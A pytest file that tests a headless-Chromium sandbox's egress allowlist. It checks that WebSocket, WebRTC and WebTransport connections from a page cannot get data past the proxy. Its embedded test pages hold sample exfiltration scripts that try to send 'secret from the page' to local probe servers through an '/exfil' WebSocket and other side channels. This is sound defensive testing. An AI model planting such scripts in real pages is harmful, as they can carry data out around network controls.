"""Channels CDP Fetch never sees, in real headless Chromium: a page's WebSocket to a loopback port outside the
allowlist, WebRTC towards a STUN (UDP) and a TURN (TCP) server, WebTransport (QUIC, UDP). Real servers in the
test count what reaches them; an allowed WebSocket next to them must still work."""

import time

import pytest

from jaxwebrl.env import check
from jaxwebrl.env.browser.allowlist import UrlAllowlist
from jaxwebrl.env.browser.browser import Browser
from jaxwebrl.env.browser.chromium import BrowserConfig
from jaxwebrl.env.browser.probes import GREETING, UdpProbe, WebSocketProbe, serve_directory

pytestmark = pytest.mark.browser

SOCKETS = """<!doctype html><script>
window.events = [];
for (const [tag, url] of [["outside", "OUTSIDE/exfil"], ["allowed", "ALLOWED/ok"]]) {
  const s = new WebSocket(url);
  s.onopen = () => { events.push(tag + " open"); s.send("secret from the page"); };
  s.onmessage = e => events.push(tag + " got " + e.data);
  s.onclose = () => events.push(tag + " closed");
}
</script>"""

WEBRTC = """<!doctype html><script>
window.events = [];
const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:STUN_PORT"},
  {urls: "turn:127.0.0.1:TURN_PORT?transport=tcp", username: "u", credential: "p"}]});
pc.onicecandidate = e => { if (e.candidate) events.push("candidate " + e.candidate.candidate); };
pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === "complete") events.push("gathered"); };
pc.createDataChannel("exfil");
pc.createOffer().then(o => pc.setLocalDescription(o));
new WebTransport("https://127.0.0.1:QUIC_PORT/exfil").ready.catch(() => events.push("webtransport failed"));
</script>"""


@pytest.fixture(scope="module")
def browser():
    with Browser(BrowserConfig(viewport=(400, 300))) as b:
        yield b


def _serve_page(tmp_path, html):
    (tmp_path / "index.html").write_text(html)
    server, url, _ = serve_directory(str(tmp_path))
    return server, url


def _events_when(browser, done, timeout_s=20.0):
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        events = browser.run_js("return window.events || [];")
        if done(events):
            time.sleep(0.3)  # let packets already in flight reach the probes
            return events
        time.sleep(0.05)
    raise AssertionError(f"the page did not finish its attempts: {browser.run_js('return window.events;')}")


def test_a_websocket_outside_the_allowlist_gets_no_data_through(browser, tmp_path):
    outside, allowed = WebSocketProbe(), WebSocketProbe()
    server, url = _serve_page(tmp_path, SOCKETS.replace("OUTSIDE", outside.url).replace("ALLOWED", allowed.url))
    try:
        browser.set_allowlist(UrlAllowlist([f"{url}/*", f"{allowed.url}/ok"]))
        browser.navigate(f"{url}/index.html")
        events = _events_when(browser, lambda e: f"allowed got {GREETING}" in e and "outside closed" in e)
        # the control: a WebSocket the allowlist allows exchanges data both ways through the egress proxy
        assert allowed.messages == ["secret from the page"]
        # the one outside it: no TCP connection reached the server, nothing came back
        assert outside.connections == 0 and outside.messages == []
        assert "outside open" not in events and not any(e.startswith("outside got") for e in events)
        assert f"tcp://127.0.0.1:{outside.port}" in browser.egress_proxy.blocked
    finally:
        server.shutdown()
        server.server_close()
        outside.close()
        allowed.close()


def test_webrtc_and_webtransport_send_no_udp(browser, tmp_path):
    stun, quic, turn = UdpProbe(), UdpProbe(), WebSocketProbe()  # turn: a TCP port that counts connections
    page = (WEBRTC.replace("STUN_PORT", str(stun.port)).replace("TURN_PORT", str(turn.port))
            .replace("QUIC_PORT", str(quic.port)))
    server, url = _serve_page(tmp_path, page)
    try:
        browser.set_allowlist(UrlAllowlist([f"{url}/*"]))
        browser.navigate(f"{url}/index.html")
        events = _events_when(browser, lambda e: "gathered" in e and "webtransport failed" in e)
        assert stun.packets == 0 and quic.packets == 0 and turn.connections == 0
        assert not any(" udp " in e for e in events), events  # not even a host candidate is gathered
    finally:
        server.shutdown()
        server.server_close()
        for probe in (stun, quic, turn):
            probe.close()


def test_the_doctor_sees_a_leak_when_the_proxy_is_off():
    """The doctor's check is a real check: the same browser without its egress proxy leaks the WebSocket."""
    with Browser(BrowserConfig(viewport=(400, 300), egress_proxy=False)) as leaky:
        result = check.allowlist_check(leaky, wait_s=5.0)
    assert result["websocket_outside_connections"] > 0 and result["udp_packets"] > 0 and result["enforced"] is False
    assert result["page_works"] and result["navigate_refused"] and result["subresource_blocked"]
